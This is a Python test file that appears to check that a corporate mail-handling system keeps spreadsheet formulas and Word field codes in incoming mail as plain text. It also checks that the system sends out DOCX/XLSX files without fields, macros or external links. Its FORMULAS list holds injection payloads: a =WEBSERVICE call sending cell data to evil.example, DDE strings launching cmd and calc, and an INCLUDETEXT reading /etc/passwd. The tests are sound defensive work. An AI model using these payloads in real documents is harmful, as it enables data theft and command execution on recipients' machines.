"""Row 22: no cell of ours calculates, and no document of ours fetches or runs anything.

The attack: words that a spreadsheet takes for a formula, and that Word takes for a field, in titles, labels and in the
tables that people mail in. What must be seen: the words, literally; files that people attached reach others unchanged;
what we make ourselves is DOCX without a field, a macro or a relation to anything outside, and XLSX without a formula.
"""

from __future__ import annotations

import base64
import io
import re
import zipfile

import pytest
from attacks import project
from docx import Document
from threat_office import Office, SentMail, letter, reply

FORMULAS = [
    '=WEBSERVICE("http://evil.example/?"&A1)', '=HYPERLINK("http://evil.example","同意")', "=cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "=1+1", "＝1+1", "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe", 'INCLUDETEXT "/etc/passwd"', "{ INCLUDEPICTURE http://evil.example }",
]  # fmt: skip
FIELD = re.compile(r"<w:(?:fldSimple|instrText)[^>]*>([^<]*)|w:instr=\"([^\"]*)\"")


@pytest.fixture(scope="module")
def office() -> Office:
    return Office(("answers_per_sender_hour: 20", "answers_per_sender_hour: 900"))


def made(mails: tuple[SentMail, ...] | list[SentMail]) -> list[tuple[str, bytes]]:
    return [(a.name, a.content) for mail in mails for a in mail.message.attachments]


def harmless(name: str, content: bytes) -> None:
    """A document of ours holds no field that does something, no macro, and reaches nothing outside."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        members = {member: archive.read(member).decode("utf-8", "replace") for member in archive.namelist()}
    assert not [member for member in members if "vba" in member.lower() or "embeddings" in member or "externalLink" in member]
    for member, text in members.items():
        assert 'TargetMode="External"' not in text, (name, member)
        fields = {(one or other).split()[0].upper() for one, other in FIELD.findall(text) if (one or other).split()}
        assert fields <= {"PAGE", "NUMPAGES"}, (name, member, fields)


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_a_text_in_every_mail_and_document(office: Office, formula: str) -> None:
    body = f"事项: 预算 {formula}\n内容: {formula}\n确认人: 刘经理\n"
    opened = office.hand_in(letter(body, sender="wang@corp.example", to="confirm@corp.example", subject="【确认】预算"))
    assert opened.counted, opened.fact
    closed = office.hand_in(reply(office.asked("liu@corp.example", record=opened.fact.record), "同意"))
    files = made([*opened.sent, *closed.sent])
    assert files
    assert {name.rpartition(".")[2] for name, _ in files} == {"docx"}
    for name, content in files:
        harmless(name, content)
    text = "".join(t.text or "" for _, content in files for t in Document(io.BytesIO(content)).element.body.iter() if str(t.tag).endswith("}t"))
    assert formula.strip() in text
    assert formula.strip() in opened.sent[0].message.text


@pytest.mark.parametrize(("to", "subject", "body"), [
    ("incident@corp.example", "支付系统无法使用", "事件性质: 系统故障\n影响范围: {0}\n紧急程度: 高\n当前状况: {0}\n"),
    ("project@corp.example", "【项目】推广", "项目名称: 推广\n核心目标: {0}\n参与部门: 市场部、技术部\n预计完成时间: 3月20日\n里程碑: {0} 3月20日\n"),
    ("request@corp.example", "【联系单】资料", "收文部门: 技术部\n事由: {0}\n内容: {0}\n要求完成时间: 3月9日\n"),
    ("coord@corp.example", "【会议】周会", "会议主题: 周会\n时间: 3月5日 14:00\n地点: {0}\n参会人: 刘经理、Alice Brown\n议程: {0}\n"),
])  # fmt: skip
def test_nor_in_those_of_other_kinds(office: Office, to: str, subject: str, body: str) -> None:
    outcome = office.hand_in(letter(body.format(FORMULAS[0]), sender="wang@corp.example", to=to, subject=subject))
    assert outcome.counted, outcome.fact
    assert any(FORMULAS[0] in mail.message.text for mail in outcome.sent)
    for name, content in made(outcome.sent):
        if name.endswith(".docx"):
            harmless(name, content)


def test_a_table_that_is_mailed_in_goes_on_unchanged_and_its_formulas_are_never_reckoned(office: Office) -> None:
    sheet = "任务,负责人\r\n" + "\r\n".join(f'"{formula}",张工' for formula in FORMULAS).replace('"http', '""http')
    coded = base64.encodebytes(sheet.encode()).decode()
    body = (
        "--b\nContent-Type: text/plain; charset=utf-8\n\n事项: 清单\n内容: 见附件\n确认人: 刘经理\n\n--b\nContent-Type: text/csv; name=list.csv\n"
        f"Content-Transfer-Encoding: base64\nContent-Disposition: attachment; filename=list.csv\n\n{coded}--b--\n"
    )
    raw = letter(body, sender="wang@corp.example", to="confirm@corp.example", subject="【确认】清单", headers={"Content-Type": 'multipart/mixed; boundary="b"'})
    outcome = office.hand_in(raw)
    assert outcome.counted
    passed_on = [content for name, content in made(outcome.sent) if name == "list.csv"]
    assert passed_on == [sheet.encode()]


def test_a_form_that_goes_out_as_excel_holds_no_formula(office: Office) -> None:
    """What heads and owners get to fill in is a real spreadsheet: what others wrote stands in it as text."""
    evil = FORMULAS[0]
    number = project(office, f"推广 {FORMULAS[1]}")
    for signer in ("liu@corp.example", "li@corp.example"):
        assert office.hand_in(reply(office.asked(signer, record=number), "同意")).counted
    rows = "具体任务 | 任务负责人 | 计划开始时间 | 计划完成时间 | 人力 | 预算 | 设备 | 交付物\n"
    rows += f"{evil} | 张工 | 2026-03-09 | 2026-03-20 | =1+1 | 5万 | @SUM(1) | -2+3\n"
    office.hand_in(letter(rows, subject=f"Re: [{number}]"))
    office.hand_in(letter("表格 清单", subject=f"Re: [{number}]"))
    sheets = [content for name, content in made(office.sent) if name.endswith(".xlsx")]
    assert sheets
    for content in sheets:
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            assert not [name for name in archive.namelist() if "vba" in name.lower() or "externalLink" in name]
            for name in archive.namelist():
                text = archive.read(name).decode("utf-8", "replace")
                assert "<f>" not in text and "<f " not in text and 'TargetMode="External"' not in text, name
                assert not re.search(r"<definedName[^>]*>[^<]*(?:cmd|WEBSERVICE|DDE)", text)
